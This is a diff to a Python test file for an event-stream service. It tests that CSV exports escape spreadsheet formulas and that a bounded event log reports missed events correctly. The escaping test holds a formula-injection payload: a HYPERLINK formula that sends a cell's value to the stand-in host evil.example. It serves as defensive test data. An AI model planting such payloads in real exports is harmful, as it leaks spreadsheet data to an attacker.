@@ -1048,7 +1048,7 @@ def test_names_a_spreadsheet_would_run_as_formulas_are_written_as_text(tmp_path:
     assert safe_cell("=1+1") == "'=1+1" and safe_cell("@SUM(A1)") == "'@SUM(A1)"
     assert safe_cell("-5") == "'-5" and safe_cell(-5) == -5 and safe_cell("gate") == "gate"
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    with TestClient(file_stream_app(tmp_path)) as c:
+    with TestClient(file_stream_app(tmp_path, event_log_size=3)) as c:
         added = c.post("/streams", json={"url": f"file://{CAR_CLIP}", "id": "cam"})
         assert added.status_code == 201, added.text
         made = c.post("/streams/cam/events", json={"label": formula, "clip": False})
@@ -1057,3 +1057,9 @@ def test_names_a_spreadsheet_would_run_as_formulas_are_written_as_text(tmp_path:
         table = c.get("/events/counts", params={"by": "label", "type": "manual", "format": "csv"})
         rows = list(csv.DictReader(io.StringIO(table.text)))
         assert [r["label"] for r in rows] == ["'" + formula], table.text
+        # A first read without a cursor starts at the oldest kept: it missed nothing (it was
+        # told it had missed every event that had left the log).
+        for n in range(5):
+            c.post("/streams/cam/events", json={"label": f"bell {n}", "clip": False})
+        first = c.get("/events").json()
+        assert len(first["events"]) == 3 and first["missed"] == 0, first
